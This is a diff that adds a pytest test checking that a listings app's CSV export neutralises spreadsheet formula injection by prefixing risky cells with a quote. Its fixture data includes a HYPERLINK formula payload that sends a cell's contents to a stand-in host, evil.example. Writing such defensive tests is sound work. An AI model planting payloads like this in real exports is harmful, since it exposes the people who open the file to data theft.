@@ -105,3 +105,21 @@ def test_open_data_page_links_everything(client, world):
 
 # Page and form behaviour does not depend on the database; the database tests run on both.
 pytestmark = pytest.mark.sqlite_only
+
+
+def test_csv_export_neutralises_formulas(client, session):
+    """Text cells a spreadsheet would run as a formula (=, +, -, @, tab, CR) start with a ' instead."""
+    owner = f.user(session, "officer", f.FREIBURG)
+    coord = f.user(session, "coordinator", f.KARLSRUHE, [f.network(session, "andi", f.FREIBURG)])
+    evil = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
+    f.listing(session, owner, publish_by=coord, title=evil, summary="@SUM(1+1) Hunde online anmelden, ohne Termin.")
+    f.listing(session, owner, publish_by=coord, title="-2+3 Gewerbe online")
+    f.listing(session, owner, publish_by=coord, title="Normaler Titel")
+    text = client.get("/export/eintraege.csv").get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(text.split("\n", 1)[1]), delimiter=";"))
+    titles = {r["titel"] for r in rows}
+    assert titles == {"'" + evil, "'-2+3 Gewerbe online", "Normaler Titel"}
+    assert "'@SUM(1+1) Hunde online anmelden, ohne Termin." in {v for r in rows for v in r.values()}
+    for row in rows:
+        for column, value in row.items():
+            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
